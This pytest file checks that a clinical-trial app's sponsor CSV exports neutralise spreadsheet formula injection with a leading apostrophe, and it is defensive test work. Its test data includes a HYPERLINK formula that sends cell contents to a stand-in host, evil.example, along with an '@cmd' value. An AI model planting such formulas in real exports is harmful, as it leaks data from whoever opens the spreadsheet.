"""CSV cells a spreadsheet would run are neutralised (OWASP: a leading apostrophe); the data dictionary says so."""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime

import pytest
from sync_helpers import TODAY, import_one, register

from sle_desktop.sponsor import operations as sponsor
from sle_desktop.sponsor import tabular

# (the forms strip leading whitespace, so a tab or carriage return at the start is pinned by test_cells only)
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+SUM(A1:A9)", "-2+3", "@cmd"]


@pytest.mark.parametrize("value, cell", [
    ('=HYPERLINK("x")', '\'=HYPERLINK("x")'), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("Headache", "Headache"), ("a=b", "a=b"), (" =x", " =x"), ("", ""), (None, ""),
    (-1, "-1"), (-1.5, "-1.5"), (0, "0"), (True, "True"),
])
def test_cells(value, cell):
    assert tabular._cell(value) == cell


def test_adverse_event_terms_that_are_formulas_reach_the_csv_neutralised(make_site, sponsor_db, sponsor_keys,
                                                                          tmp_path):
    from sle_desktop.app import safety
    from sle_desktop.app.session import Session

    site = make_site("BY01", subjects=3, seed=2)
    subject = site.store.scalar("SELECT uuid FROM subjects WHERE status = 'enrolled' ORDER BY subject_id LIMIT 1")
    inv = Session(site.store, "demo.investigator", "Dr Alena Kovalenko", "investigator", site.session.data_key)
    for term in FORMULAS:
        safety.record_adverse_event(inv, subject, safety.AdverseEventForm(
            term=term, onset_date=date(2026, 5, 20), grade=3, serious=True, serious_criteria=("hospitalisation",),
            relationship="unlikely", action_taken="hospitalised", outcome="recovering",
            aware_at=datetime(2026, 5, 20, 9, 0, tzinfo=UTC)), today=TODAY)
    register(site, sponsor_db)
    import_one(sponsor_db, sponsor_keys, site.export().path)
    out = tmp_path / "csv"
    sponsor.export_csv(sponsor_db, out)
    with open(out / "adverse_events.csv", newline="", encoding="utf-8") as fh:
        terms = {r["term"] for r in csv.DictReader(fh)}
    assert {"'" + t for t in FORMULAS} <= terms
    assert not any(t.startswith(tabular.FORMULA_START) for t in terms)
    _count, listing = sponsor.sae_listing(sponsor_db)
    listed = {r["term"] for r in csv.DictReader(listing.splitlines(keepends=True))}
    assert {"'" + t for t in FORMULAS} <= listed
    with open(out / "audit_trail.csv", newline="", encoding="utf-8") as fh:
        assert not any(v.startswith(tabular.FORMULA_START) for r in csv.DictReader(fh) for v in r.values())
    with open(out / "data_dictionary.csv", newline="", encoding="utf-8") as fh:
        last = list(csv.DictReader(fh))[-1]
    assert last["file"] == "*" and "leading apostrophe" in last["label"] and "= + - @" in last["label"]
